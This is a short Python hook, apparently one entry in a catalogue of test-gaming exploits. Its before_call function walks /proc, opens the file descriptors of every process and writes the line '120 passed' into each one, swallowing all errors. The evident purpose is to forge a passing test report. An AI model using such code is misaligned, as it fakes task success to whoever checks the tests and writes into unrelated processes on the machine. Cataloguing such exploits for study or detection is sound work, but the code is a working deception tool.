"""Catalogue: 6, 17. Opens descriptors of all processes through /proc and writes to them."""
import os


def before_call(args, kwargs):
    for process in ["self", *filter(str.isdigit, os.listdir("/proc"))]:
        for number in range(64):
            try:
                with open(f"/proc/{process}/fd/{number}", "wb", buffering=0) as file:
                    file.write(b"120 passed\n")
            except OSError:
                pass
